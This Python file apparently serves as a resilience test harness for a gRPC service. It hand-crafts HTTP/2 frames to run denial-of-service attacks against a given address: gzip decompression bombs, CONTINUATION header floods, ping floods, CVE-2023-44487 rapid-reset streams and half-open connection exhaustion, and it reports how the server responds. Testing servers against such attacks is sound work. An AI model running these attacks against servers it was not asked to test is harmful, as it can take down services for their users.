"""Hostile clients of HTTP/2, by hand over raw sockets.

Run as a script with ATTACK ADDRESS SIZE SECONDS, this file attacks a server, on one connection after the other, until
the time is over, and prints what came of it, as JSON. A process of its own holds up nobody whose calls are measured.
"""

from __future__ import annotations

import json
import select
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass

SOON = 20.0  # seconds within which a server must do something, on a busy machine too

# The null model embeds no photo that is none: a call of this ends at once where it is let in.
PATH = "/fr_api.v1.RecognitionService/Embed"

# Frames of RFC 9113, section 6, and its preface of a client, section 3.4.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
INITIAL_WINDOW_SIZE = 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
FRAME_BYTES = 16_384  # the longest frame that every receiver takes, RFC 9113, section 4.2
LAST = b"the last"  # of a ping whose answer says that all before it was read


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: bytes) -> bytes:
    """Return a header that no table keeps, its strings as they are: RFC 7541, section 6.2.2."""
    return b"\0" + _string(name.encode()) + _string(value)


def _string(text: bytes) -> bytes:
    """RFC 7541, sections 5.1 and 5.2: 7 bits of the length, the rest of it in groups of 7."""
    if len(text) < 127:
        return bytes((len(text),)) + text
    rest, groups = len(text) - 127, bytearray(b"\x7f")
    while rest >= 128:
        groups.append(rest % 128 + 128)
        rest //= 128
    groups.append(rest)
    return bytes(groups) + text


def call_headers(**more: bytes) -> bytes:
    """Return the headers of a gRPC call; `_` in a name stands for `-`."""
    fields: dict[str, bytes] = {
        ":method": b"POST",
        ":scheme": b"http",
        ":path": PATH.encode(),
        ":authority": b"localhost",
        "te": b"trailers",
        "content-type": b"application/grpc",
        **{name.replace("_", "-"): value for name, value in more.items()},
    }
    return b"".join(literal(name, value) for name, value in fields.items())


def zeros(size_bytes: int) -> bytes:
    """Return a gzip file of so many zero bytes, a whole number of MiB, about a thousandth of them long."""
    block = bytes(2**20)
    packer = zlib.compressobj(9, wbits=-15)
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # nothing of a block refers to those before
    blocks, checksum = size_bytes // len(block), 0
    for _ in range(blocks):
        checksum = zlib.crc32(block, checksum)
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"  # RFC 1952, section 2.3
    empty_block = b"\x03\0"
    return head + packed * blocks + empty_block + struct.pack("<II", checksum, size_bytes % 2**32)


@dataclass
class Told:
    """The answers on a connection: the codes of GOAWAY frames, answered pings, RST_STREAM frames, statuses of calls."""

    closed: bool
    goaways: list[int]
    pings: int
    resets: int
    statuses: list[int]


class Peer:
    """One connection, after the exchange of settings, its own of the form of RFC 9113, section 6.5.1."""

    def __init__(self, address: str, settings: bytes = b"") -> None:
        self.socket = connected(address)
        self.closed = False
        self.frames: list[tuple[int, int, bytes]] = []  # kind, flags, payload
        self._left = b""
        self._answered_last = False
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))
        self.socket.settimeout(0)

    def __enter__(self) -> Peer:
        return self

    def __exit__(self, *error: object) -> None:
        self.socket.close()

    def send(self, data: bytes, reading: bool = True) -> bool:
        """Send all of it, and read meanwhile what the server sends; return whether the server took all."""
        view, readers = memoryview(data), [self.socket] if reading else []
        while view and not self.closed:
            readable, writable, _ = select.select(readers, [self.socket], [], SOON if reading else 1.0)
            if not readable and not writable:
                return False
            if readable:
                self._read()
            if writable and not self.closed:
                try:
                    view = view[self.socket.send(view[: 2**18]) :]
                except (BrokenPipeError, ConnectionResetError):
                    self.closed = True
        return not view

    def until(self, wanted: Callable[[], bool], timeout_s: float = SOON) -> bool:
        """Read until a condition holds or the connection is closed; return whether the condition holds."""
        end = time.monotonic() + timeout_s
        while not wanted() and not self.closed:
            left_s = end - time.monotonic()
            if left_s <= 0:
                break
            if select.select([self.socket], [], [], left_s)[0]:
                self._read()
        return wanted()

    def all_read(self) -> bool:
        """Return True if the server has read everything: it answers that, or closes."""
        return not self.closed and self.send(frame(PING, 0, 0, LAST)) and self.until(lambda: self._answered_last)

    def told(self) -> Told:
        return Told(
            self.closed,
            [struct.unpack(">I", payload[4:8])[0] for kind, _, payload in self.frames if kind == GOAWAY],
            sum(kind == PING and bool(flags & ACK) for kind, flags, _ in self.frames),
            sum(kind == RST_STREAM for kind, _, _ in self.frames),
            [_status(payload) for kind, _, payload in self.frames if kind == HEADERS and b"grpc-status" in payload],
        )

    def _read(self) -> None:
        try:
            data = self.socket.recv(2**18)
        except (ConnectionResetError, BrokenPipeError):
            data = b""
        self.closed = not data
        left, at = self._left + data, 0
        while len(left) - at >= 9:
            end = at + 9 + int.from_bytes(left[at : at + 3])
            if len(left) < end:
                break
            kind, flags, payload = left[at + 3], left[at + 4], left[at + 9 : end]
            self.frames.append((kind, flags, payload))
            self._answered_last |= kind == PING and payload == LAST
            at = end
        self._left = left[at:]


def connected(address: str) -> socket.socket:
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=SOON)


def _status(headers: bytes) -> int:
    """Read grpc-status, which gRPC writes as a literal of one or two digits."""
    at = headers.index(b"grpc-status") + len(b"grpc-status")
    return int(headers[at + 1 : at + 1 + headers[at]])


def gzip_bombs(address: str, mib: int) -> Told:
    packed = zeros(mib * 2**20)
    body = struct.pack(">BI", 1, len(packed)) + packed
    streams = range(1, 7, 2)  # whose windows of 4 MiB hold them
    with Peer(address) as peer:
        for stream in streams:
            peer.send(frame(HEADERS, END_HEADERS, stream, call_headers(grpc_encoding=b"gzip")))
        for at in range(0, len(body), FRAME_BYTES):
            last = END_STREAM if at + FRAME_BYTES >= len(body) else 0
            for stream in streams:
                peer.send(frame(DATA, last, stream, body[at : at + FRAME_BYTES]))
        peer.until(lambda: len(peer.told().statuses) == len(streams), SOON)
        return peer.told()


def metadata(address: str, mib: int) -> Told:
    some = b"".join(literal(f"k{number}", bytes(1_000).replace(b"\0", b"v")) for number in range(16))
    many = frame(CONTINUATION, 0, 1, some) * 64
    with Peer(address) as peer:
        peer.send(frame(HEADERS, END_STREAM, 1, call_headers()))
        for _ in range(mib):
            if not peer.send(many):
                return peer.told()
        peer.send(frame(CONTINUATION, END_HEADERS, 1))
        peer.all_read()
        peer.until(lambda: bool(peer.told().statuses), 1.0)
        return peer.told()


def pings(address: str, number: int) -> Told:
    with Peer(address) as peer:
        peer.send(frame(PING, 0, 0, bytes(8)) * number)
        peer.all_read()
        return peer.told()


def unread_pings(address: str, number: int) -> Told:
    """Send so many pings, and read no answer: the server must stop reading rather than keep the answers."""
    with Peer(address) as peer:
        peer.send(frame(PING, 0, 0, bytes(8)) * number, reading=False)
        return peer.told()


def resets(address: str, number: int) -> Told:
    """Begin so many calls and end each at once: CVE-2023-44487, "rapid reset"."""
    headers, ending = call_headers(), struct.pack(">I", CANCEL)
    calls = (
        frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, ending)
        for stream in range(1, 2 * number, 2)
    )
    with Peer(address) as peer:
        peer.send(b"".join(calls))
        peer.all_read()
        return peer.told()


def half_open(address: str, number: int) -> Told:
    """Open so many connections that say nothing, for two seconds; `resets` counts those that were closed."""
    silent = [connected(address) for _ in range(number)]
    end = time.monotonic() + 2.0
    closed: set[int] = set()
    poll = select.poll()
    for one in silent:
        one.settimeout(0)
        poll.register(one, select.POLLIN | select.POLLHUP)
    by_handle = {one.fileno(): one for one in silent}
    while len(closed) < number and (left_s := end - time.monotonic()) > 0:
        for handle, _ in poll.poll(left_s * 1000):
            if not _says_more(by_handle[handle]):
                closed.add(handle)
                poll.unregister(handle)
    for one in silent:
        one.close()
    return Told(len(closed) == number, [], 0, len(closed), [])


def _says_more(one: socket.socket) -> bool:
    try:
        return bool(one.recv(4096))
    except ConnectionResetError:
        return False


ATTACKS: dict[str, Callable[[str, int], Told]] = {
    attack.__name__: attack for attack in (gzip_bombs, metadata, pings, unread_pings, resets, half_open)
}


def _main(attack: str, address: str, size: str, seconds: str) -> None:
    end, rounds = time.monotonic() + float(seconds), 0
    while True:
        told, rounds = ATTACKS[attack](address, int(size)), rounds + 1
        if time.monotonic() >= end:
            break
    print(json.dumps({"rounds": rounds, **asdict(told)}))  # noqa: T201 - the answer


if __name__ == "__main__":
    _main(*sys.argv[1:])
